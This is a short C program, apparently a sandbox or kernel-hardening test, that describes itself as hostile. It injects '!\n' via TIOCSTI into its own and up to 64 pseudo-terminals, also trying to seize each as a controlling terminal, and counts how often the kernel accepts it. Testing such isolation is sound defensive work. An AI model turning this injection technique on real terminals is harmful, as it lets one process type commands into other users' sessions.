/* SPDX-License-Identifier: Apache-2.0
 *
 * push: a hostile program. Pushes "!\n" (TIOCSTI) into every terminal that it has or can open, as what it is and as
 * the leader of a session whose terminal it tries to make of each. Prints the number of times that the kernel took it. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#define TERMINALS 64

static int push(int fd) {
  int taken = 0;
  for (const char *at = "!\n"; *at; at++) taken += ioctl(fd, TIOCSTI, at) == 0;
  return taken;
}

static int push_all(int steal) {
  int taken = 0;
  for (int i = -4; i < TERMINALS; i++) {
    char path[32];
    snprintf(path, sizeof path, i < 0 ? "/dev/tty" : "/dev/pts/%d", i);
    int fd = i < -1 ? i + 4 : open(path, O_RDWR | O_NOCTTY);
    if (i >= 0 && fd < 0) fd = open(path, O_WRONLY | O_NOCTTY);
    if (fd < 0) continue;
    if (steal) ioctl(fd, TIOCSCTTY, 1);
    taken += push(fd);
    if (steal) ioctl(fd, TIOCNOTTY, 0);
    if (i >= -1) close(fd);
  }
  return taken;
}

int main(void) {
  int status = 0, taken = push_all(0);
  pid_t child = fork();
  if (child == 0) {
    setsid();
    _exit(push_all(1));
  }
  waitpid(child, &status, 0);
  printf("taken %d\n", taken + WEXITSTATUS(status));
  return 0;
}
